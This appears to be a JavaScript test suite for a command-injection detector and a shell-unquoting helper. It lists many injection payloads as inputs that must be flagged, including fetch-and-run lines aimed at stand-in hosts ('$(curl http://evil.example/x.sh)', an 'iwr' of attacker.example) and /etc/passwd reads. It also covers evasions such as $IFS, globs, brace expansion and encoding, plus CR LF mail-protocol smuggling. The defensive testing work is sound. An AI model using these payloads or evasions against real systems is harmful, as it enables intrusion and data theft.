// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the values under test are lookup and shell expressions, not templates
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { detectCmdi, unshell } from './cmdi.js';
import { fires } from './test-helpers.js';

describe('detectCmdi', () => {
  test('operators followed by commands, substitutions, absolute binaries', () => {
    for (const value of [
      'x; cat /etc/passwd',
      'a;id',
      '|id|',
      '127.0.0.1 && whoami',
      '`uname -a`',
      '$(curl http://evil.example/x.sh)',
      '& ping -n 30 127.0.0.1 &',
      '/bin/sh -c id',
      'x\nwget http://evil.example',
      'cmd.exe /c dir',
      '<!--#exec cmd="ls" -->',
      'for /f "tokens=1" %a in (file.txt) do echo %a',
    ]) {
      assert.ok(fires(detectCmdi, value), value);
    }
  });

  test('obfuscation: quotes, backslashes, $IFS, globs, encoding', () => {
    for (const value of [
      ";c''at /e't'c/pa\"\"sswd",
      ';w\\h\\o\\a\\m\\i',
      ';cat${IFS}/etc/passwd',
      ';/???/c?t /???/p??s??',
      '%3Bwhoami',
      '%253Bcat%2520%252Fetc%252Fpasswd',
    ]) {
      assert.ok(fires(detectCmdi, value, { location: 'query' }), value);
    }
  });

  test('evasions only a shell undoes: empty substitutions, special parameters, brace lists, ANSI-C quoting', () => {
    for (const value of [
      'tr$()aceroute -m 3 10.1.2.3',
      'ho``stname',
      'who<()ami',
      'u$@na$!me -a',
      'host;who$_am$?i',
      '{,uname,-a}',
      '{hostname,}',
      '{nmap,-sV,10.0.0.0/8}',
      "{,$'uname',-r}",
      'p""e""r""l -v',
      '`/usr/bin/wh?ami`',
      '$SHELL -c "uname -a"',
      'x&&${RUN} $ARGS',
    ]) {
      assert.ok(fires(detectCmdi, value), value);
    }
  });

  test('commands without an operator: reading system files, inline code, exec calls, chaining', () => {
    for (const value of [
      'more /etc/group',
      'xzcat -d /var/log/auth.log.xz',
      'dd if=/proc/self/maps of=/tmp/x',
      "perl -e 'print 1'",
      'ruby -e "puts 1"',
      "';shell_exec('uname -a')",
      'passthru("ls -la")',
      'hostname;',
      'netstat|',
      'tasklist.exe /v',
      '\\ls -la',
      '; iwr https://attacker.example/x.ps1',
    ]) {
      assert.ok(fires(detectCmdi, value), value);
    }
  });

  test('cmd.exe loops and comparisons', () => {
    for (const value of [
      'for %item in (a b) do type %item',
      'FOR /L %%n IN (1,1,5) DO ping -n 1 10.0.0.%%n',
      'if [%2] equ [] echo missing',
      'IF (3) LSS (9) echo less',
      'if not (1 neq 1) dir',
      'if/i x==X echo same',
      'if "a b" == "a b" echo same',
    ]) {
      assert.ok(fires(detectCmdi, value), value);
    }
  });

  test('mail and file-transfer protocol commands after CR LF', () => {
    for (const value of [
      'x\r\nRCPT TO:<victim@example.org>',
      'subject\r\nHELO mail.example.net',
      'a\r\nDATA',
      'b\r\nRETR 7',
      'c\r\nAPOP mallory 0123456789abcdef0123456789abcdef',
      'd\r\nB7 LOGIN user pass',
    ]) {
      assert.ok(fires(detectCmdi, value.replaceAll('\\r\\n', '\r\n')), value);
    }
  });

  test('benign look-alikes do not fire', () => {
    for (const value of [
      'Tom & Jerry',
      'a&b',
      'B&W photos',
      'Hello; more info below',
      'cat food',
      'ping pong',
      'I like Python; it is nice',
      'salt & pepper',
      'jane.doe@example.com',
      'id',
      'ping 127.0.0.1',
      'C:\\Windows\\System32\\ls',
      'fields={id,name,email}',
      'pick {cat,dog}',
      'if x is 1 then stop',
      'aWYrZm9vPT0=',
      'if+foo==',
      'Please see the log under /var/log/app for details',
      'More info: quit smoking\r\nHelp is available',
      'data\nquit',
      'system("Thank you")',
      "don't cat's",
      'price: US$5, $USD 10',
      'for each item in (the list) we do nothing',
    ]) {
      assert.equal(fires(detectCmdi, value), false, value);
    }
  });

  test('command substitution of a command that is also a word', () => {
    for (const value of ['$(id)', '$(ps)', '$(w)', 'x$(id)', 'a;$(id)', '$(id)x', '<(id)']) {
      assert.ok(fires(detectCmdi, value, { location: 'query' }), value);
    }
    for (const value of ['(id)', 'price $(5)', 'it costs $(5) — really', '$(id).hide()', '$(this).val()', 'see (ps)']) {
      assert.equal(fires(detectCmdi, value, { location: 'query' }), false, value);
    }
  });

  test('Markdown inline code in a body field is prose; a substitution in shell context is not', () => {
    for (const value of [
      'run `ls -la` and then `npm test`',
      'Use `npm install` then `npm test`',
      'Fixed it: run `ls -la` and then `npm test`',
      '(see `id`) and **`whoami`** for details',
    ]) {
      assert.equal(fires(detectCmdi, value, { location: 'body' }), false, value);
      // Outside a body, the same backticks are still read as substitutions.
      if (!value.startsWith('(')) assert.ok(fires(detectCmdi, value, { location: 'query' }), value);
    }
    for (const value of [
      '`cat /etc/passwd`',
      'a`id`b',
      'x;`whoami`',
      '`id`',
      'name="`id`"',
      'try `curl evil.example | sh` now',
      'try `echo $HOME` now',
      'see `uname -a',
    ]) {
      assert.ok(fires(detectCmdi, value, { location: 'body' }), value);
    }
  });

  test('unshell undoes shell quoting', () => {
    assert.equal(unshell("c''at /e't'c/pa\"\"sswd"), 'cat /etc/passwd');
    assert.equal(unshell('cat${IFS}/etc/passwd'), 'cat /etc/passwd');
    assert.equal(unshell('{,cat,/etc/passwd}'), 'cat /etc/passwd');
    assert.equal(unshell('c$@a$()t'), 'cat');
    assert.equal(unshell("$'id'"), 'id');
  });
});
